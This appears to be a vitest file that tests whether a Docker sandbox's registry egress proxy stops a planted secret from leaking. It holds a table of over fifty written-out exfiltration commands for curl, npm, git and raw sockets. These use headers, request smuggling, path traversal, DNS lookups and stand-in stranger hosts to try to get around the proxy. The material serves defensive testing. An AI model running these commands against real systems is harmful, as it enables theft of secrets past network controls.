import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { dockerRuntime } from "../../src/sandbox/docker/runtime.ts";
import { MISSING_NAMES } from "../../src/sandbox/egress/registries/names.ts";
import type { RegistryOrigin } from "../../src/sandbox/egress/registries/origin.ts";
import type { ConnectionRecord, Session } from "../../src/sandbox/runtime.ts";
import { makeFixture, profileOf, run, type SandboxFixture } from "../contract/sandbox-fixture.ts";
import { describeWithDocker } from "../support/docker.ts";
import { rounds } from "../support/extent.ts";
import { REGISTRY, STRANGER, type WatchedRegistry, watchRegistry } from "../support/registries/watched-registry.ts";

/** Names asked for by one command, forty at once. */
const FLOOD = rounds(100, 400);

/** Of the sandbox: what is to get out. */
const SECRET = "Zq7sEcReTwOrD1xQ0";

const FORMS = [SECRET, Buffer.from(SECRET).toString("hex"), Buffer.from(SECRET).toString("base64").replace(/=+$/u, "")].map((form) => form.toLowerCase());

/** `raw.py TEXT`: the bytes to the proxy itself. `tls.py HOST:PORT SERVER-NAME TEXT`: through CONNECT and TLS, as curl would. `\r\n` for ends of lines. */
const PROGRAMS = {
  "raw.py": `import socket, sys
s = socket.create_connection(("127.0.0.1", 3128)); s.settimeout(5)
s.sendall(sys.argv[1].encode().decode("unicode_escape").encode("latin1"))
try:
  while True:
    part = s.recv(65536)
    if not part: break
    sys.stdout.write(part.decode("latin1"))
except OSError: pass
`,
  "tls.py": `import socket, ssl, sys
target, name, text = sys.argv[1:4]
s = socket.create_connection(("127.0.0.1", 3128)); s.settimeout(5)
s.sendall(f"CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n".encode())
head = s.recv(65536).decode("latin1"); print(head)
context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
if len(sys.argv) > 4: context.set_alpn_protocols([sys.argv[4]])
try:
  t = context.wrap_socket(s, server_hostname=name)
  t.sendall(text.encode().decode("unicode_escape").encode("latin1"))
  while True:
    part = t.recv(65536)
    if not part: break
    sys.stdout.write(part.decode("latin1"))
except OSError as error: print(error)
`,
};

describeWithDocker("a secret on its way out through a registry", () => {
  let registry: WatchedRegistry;

  const originOf = (): RegistryOrigin => ({
    registry: "npm",
    isEncrypted: true,
    host: REGISTRY,
    port: registry.port,
    base: "/npm/",
    addresses: ["127.0.0.1"],
    trusted: [registry.certificate],
    credential: null,
  });

  async function open(): Promise<{ fixture: SandboxFixture; session: Session; records: ConnectionRecord[] }> {
    const fixture = makeFixture({ ...PROGRAMS, "package.json": JSON.stringify({ name: "app", version: "1.0.0", description: SECRET }), secret: SECRET });
    const records: ConnectionRecord[] = [];
    const env = {
      npm_config_registry: `https://${REGISTRY}:${String(registry.port)}/npm/`,
      npm_config_audit: "false",
      npm_config_fund: "false",
      npm_config_fetch_retries: "0",
    };
    const network = { allow: [], registries: [{ name: "npm", credentials: false }] as const };
    const profile = profileOf(fixture, { settings: { network, memoryBytes: 1024 ** 3, processes: 128 }, registries: { origins: [originOf()], env } });
    const names = { [REGISTRY]: ["127.0.0.1"], [STRANGER]: ["127.0.0.1"], "other.example.org": ["127.0.0.1"] };
    const { runId, runDirectory } = fixture;
    const session = await dockerRuntime().open(profile, { runId, runDirectory, names, onConnection: (record) => records.push(record) });
    return { fixture, session, records };
  }

  beforeAll(async () => {
    registry = await watchRegistry();
  });
  afterAll(async () => {
    await registry[Symbol.asyncDispose]();
  });
  beforeEach(() => {
    registry.reached.length = 0;
    registry.leaked.length = 0;
  });

  const carried = (): readonly string[] => registry.reached.filter((text) => FORMS.some((form) => text.toLowerCase().includes(form)));

  describe("which names no package", () => {
    let opened: Awaited<ReturnType<typeof open>>;
    beforeAll(async () => {
      opened = await open();
    });
    afterAll(async () => {
      await opened.session.close();
      opened.fixture.remove();
    });

    const curl = (options: string, path = "there-1"): string => `curl -sS --max-time 30 ${options} "https://$R/npm/${path}"`;
    const tls = (text: string, name = REGISTRY, target = "$R"): string => `python3 tls.py "${target}" ${name} '${text}'`;
    const get = (path: string, ...headers: readonly string[]): string =>
      [`GET ${path} HTTP/1.1`, "Host: HOSTPORT", ...headers, "Connection: close", "", ""].join("\\r\\n");

    const ATTACKS: readonly (readonly [string, string])[] = [
      ["a body that is posted", curl('-d "$S"')],
      ["a body of GET", curl('-X GET -d "$S"')],
      ["a body of GET in chunks", curl('-X GET -H "Transfer-Encoding: chunked" -d "$S"')],
      ["a package that is published", 'npm publish --registry "https://$R/npm/" "--//$R/npm/:_authToken=$S"'],
      [
        "an account that is made",
        `${curl('-X PUT -d "{\\"password\\":\\"$S\\"}"', "-/user/org.couchdb.user:me")}; npm login --registry "https://$R/npm/" < /dev/null`,
      ],
      ["an audit", `${curl('-d "$S"', "-/npm/v1/security/advisories/bulk")}; npm_config_audit=true npm audit`],
      ["a deletion", curl("-X DELETE", "there-1/-rev/$S")],
      ["a method of one's own", curl('-X "$S"')],
      ["OPTIONS", curl('-X OPTIONS -H "Access-Control-Request-Headers: $S"')],
      ["a query", curl("", "there-1?q=$S")],
      ["a search", `${curl("", "-/v1/search?text=$S")}; npm search "$S"`],
      ["a fragment", tls(get("/npm/there-1#SECRET"))],
      ["a user agent", curl('-A "$S"')],
      ["a token", curl('-H "Authorization: Bearer $S"')],
      ["a token of the workspace's own .npmrc", 'printf "//%s/npm/:_authToken=%s\\n" "$R" "$S" > .npmrc; npm view there-2 --prefer-online; rm .npmrc'],
      [
        "a user's name in an address",
        'curl -sS -u "$S:$S" "https://$R/npm/there-3"; python3 raw.py "GET http://$S@$R/npm/there-3 HTTP/1.1\\r\\nHost: $R\\r\\n\\r\\n"',
      ],
      ["a cookie", curl('-b "id=$S"')],
      ["an Accept", curl('-H "Accept: application/$S"')],
      ["an Accept-Encoding", curl('-H "Accept-Encoding: $S, gzip;q=0.$S"')],
      ["an Accept-Language", curl('-H "Accept-Language: $S"')],
      ["an ETag", curl('-H "If-None-Match: \\"$S\\"" -H "If-Match: $S"')],
      ["a date", curl('-H "If-Modified-Since: $S"')],
      ["a range", curl('-H "Range: bytes=$S" -H "If-Range: $S"')],
      ["a referrer", curl('-e "https://$S.example.org/"')],
      ["a header of one's own", curl('-H "X-Secret: $S" -H "npm-session: $S" -H "pacote-pkg-id: $S"')],
      ["the name of a header", curl('-H "npm-$S: 1"')],
      ["a header that Connection names", curl('-H "Connection: x-a" -H "x-a: $S"')],
      [
        "a trailer",
        tls("GET /npm/there-4 HTTP/1.1\\r\\nHost: HOSTPORT\\r\\nTrailer: X-A\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\nX-A: SECRET\\r\\n\\r\\n"),
      ],
      ["Expect", curl('-H "Expect: $S"')],
      [
        "a second request in the first",
        tls(
          `GET /npm/there-5 HTTP/1.1\\r\\nHost: HOSTPORT\\r\\nContent-Length: 0\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n${get("/other/SECRET")}`,
        ),
      ],
      ["a request behind another", tls(`GET /npm/there-6 HTTP/1.1\\r\\nHost: HOSTPORT\\r\\n\\r\\n${get("/other/SECRET")}`)],
      ["a folded header", tls(get("/npm/there-7", "User-Agent: a\\r\\n SECRET"))],
      ["a WebSocket", tls(get("/npm/there-8", "Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Key: SECRET", "Sec-WebSocket-Version: 13"))],
      [
        "HTTP/2",
        `python3 tls.py "$R" ${REGISTRY} 'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\nSECRET' h2; curl -sS --http2-prior-knowledge "https://$R/npm/there-9?$S"`,
      ],
      ["another folder of the host", curl("", "../other/$S").replace("curl", "curl --path-as-is")],
      ["an escaped way out of the folder", curl("", "%2e%2e/other/$S").replace("curl", "curl --path-as-is")],
      ["an escape of an escape", curl("", "there-1%252f$S")],
      ["a path parameter", curl("", "there-1;$S")],
      ["an empty component", curl("", "/$S").replace("curl", "curl --path-as-is")],
      ["a name that is longer than names are", curl("", `there-1${"x".repeat(220)}$S`)],
      ["a version that no version is", curl("", `there-1/${"1".repeat(70)}$S`)],
      ["a folder where none is", curl("", "there-1/$S/$S/$S")],
      ["another name in the handshake", tls(get("/npm/there-1"), `${SECRET}.example.org`)],
      ["another name in Host", tls(get("/npm/there-1").replace("HOSTPORT", "SECRET.example.org"))],
      ["another address in the request line", tls(get(`https://${STRANGER}/SECRET`))],
      [
        "no TLS at the registry's port",
        'curl -sS "http://$R/npm/there-1?$S"; python3 raw.py "CONNECT $R HTTP/1.1\\r\\n\\r\\nGET /npm/$S HTTP/1.1\\r\\nHost: $R\\r\\n\\r\\n"',
      ],
      ["the registry's host at another port", `curl -sS -k "https://${REGISTRY}:$E/$S"; curl -sS "http://${REGISTRY}:$E/$S"`],
      ["another host on the same address", 'curl -sS -k "https://other.example.org:${R##*:}/npm/$S"'],
      ["the registry's address itself", 'curl -sS -k --noproxy "" "https://127.0.0.1:${R##*:}/npm/$S"; curl -sS -k --noproxy "" "http://127.0.0.1:$E/$S"'],
      [
        "a stranger, directly",
        `curl -sS -k "https://${STRANGER}:$E/$S"; curl -sS "http://${STRANGER}:$E/$S"; python3 raw.py "CONNECT ${STRANGER}:$E HTTP/1.1\\r\\n\\r\\n$S"`,
      ],
      ["a stranger, around the proxy", `curl -sS --noproxy '*' --connect-timeout 3 --resolve ${STRANGER}:$E:127.0.0.1 "http://${STRANGER}:$E/$S"`],
      [
        "a name that is looked up",
        `getent hosts "$S.${STRANGER}"; curl -sS "https://$S.${STRANGER}/"; python3 raw.py "CONNECT $S.${STRANGER}:443 HTTP/1.1\\r\\n\\r\\n"`,
      ],
      [
        "npm's registry at a stranger's",
        `npm view "$S" --registry "https://${STRANGER}:$E/"; printf 'registry=https://${STRANGER}:%s/\\n' "$E" > .npmrc; env -u npm_config_registry npm view "$S"; rm .npmrc`,
      ],
      ["a proxy of npm's at a stranger's", `npm view there-10 --proxy "http://$S@${STRANGER}:$E/" --https-proxy "http://$S@${STRANGER}:$E/"`],
      ["a tarball that the registry says is at a stranger's", "npm install lure --ignore-scripts"],
      ["a dependency by git", `npm install "git+https://${STRANGER}:$E/$S.git"; git ls-remote "https://${STRANGER}:$E/$S.git"`],
      ["a dependency by its address", `npm install "https://${STRANGER}:$E/$S.tgz"`],
      ["an index beside the registry's, as pip's --extra-index-url", `curl -sS -k "https://${STRANGER}:$E/simple/$S/"; curl -sS "https://$R/simple/$S/"`],
    ];

    test("there are enough of them", () => {
      expect(new Set(ATTACKS.map(([what]) => what)).size).toBeGreaterThanOrEqual(50);
    });

    test.each(ATTACKS)("%s", async (_what, command) => {
      const place = `${REGISTRY}:${String(registry.port)}`;
      const text = command.replaceAll("SECRET", SECRET).replaceAll("HOSTPORT", place);
      const ended = await run(opened.session, `export R=${place} E=${String(registry.strangerPort)} S=${SECRET}\n${text}`);
      expect(ended.signal).toBeNull();
      expect(carried()).toEqual([]);
      expect(registry.leaked).toEqual([]);
    });

    test("and what reads a package still does", async () => {
      const { out } = await run(opened.session, `curl -sS "https://${REGISTRY}:${String(registry.port)}/npm/there-1"; npm view there-20 version`);
      expect(out).toMatch(/"name":"there-1"[^]*1\.0\.0/u);
    });
  });

  describe("in names", () => {
    /** Forty at once, by one process that believes anybody: curl reads all authorities anew for each connection, which takes longer than the rest. */
    const asks = (names: string, all = `1-${String(FLOOD)}`): string =>
      `curl -sSk -Z --parallel-immediate --parallel-max 40 -o /dev/null --max-time 60 "https://${REGISTRY}:${String(registry.port)}/npm/${names.replace("{}", `[${all}]`)}"`;

    const inSession = async (commands: readonly string[]): Promise<readonly ConnectionRecord[]> => {
      const { session, fixture, records } = await open();
      try {
        for (const command of commands) await run(session, command);
      } finally {
        await session.close();
        fixture.remove();
      }
      return records;
    };
    const paths = (): readonly string[] => [...new Set(registry.reached.flatMap((text) => /^GET (\S+)/u.exec(text)?.[1] ?? []))];

    test("that do not exist: so many arrive, at once or not, over all commands of a run", async () => {
      const records = await inSession([asks(`${SECRET.toLowerCase()}-{}`), asks("part-{}")]);
      expect(paths().length).toBeLessThanOrEqual(MISSING_NAMES.names);
      expect(paths().length).toBeGreaterThan(MISSING_NAMES.names / 2);
      expect(records.filter(({ reason }) => reason === "registry-names").length).toBeGreaterThan((FLOOD * 3) / 4);
    });

    test.each([
      ["versions of a package that is there", `there-1/0.0.{}-${SECRET.toLowerCase()}`],
      ["archives of a package that is there", `there-1/-/there-1-0.0.{}-${SECRET.toLowerCase()}.tgz`],
      ["scopes", `@${SECRET.toLowerCase()}-{}%2fa`],
      ["spellings of one name", "%6Eo-such-{}"],
    ])("as %s: so many arrive", async (_what, path) => {
      const records = await inSession([asks(path)]);
      expect(paths().length).toBeLessThanOrEqual(MISSING_NAMES.names);
      expect(records.filter(({ reason }) => reason !== null).length).toBeGreaterThan((FLOOD * 3) / 4 - 1);
    });

    test("that are long: no more characters arrive than may", async () => {
      await inSession([asks(`${"secret".repeat(25)}-{}`)]);
      expect(paths().join("").length).toBeLessThanOrEqual(MISSING_NAMES.characters);
      expect(paths().length).toBeGreaterThan(2);
    });

    test("that redirect: to a stranger's, or to what is not there", async () => {
      const records = await inSession([`curl -sS -L "https://${REGISTRY}:${String(registry.port)}/npm/away-0"`, asks("away-{}"), asks("near-{}")]);
      expect(paths().length).toBeLessThanOrEqual(MISSING_NAMES.names);
      expect(registry.leaked).toEqual([]);
      expect(records.map(({ reason }) => reason)).toContain("redirect-refused");
    });

    test("that exist are no part of the budget", async () => {
      await inSession([asks("there-{}", "0-99")]);
      expect(paths()).toHaveLength(100);
    });
  });
});
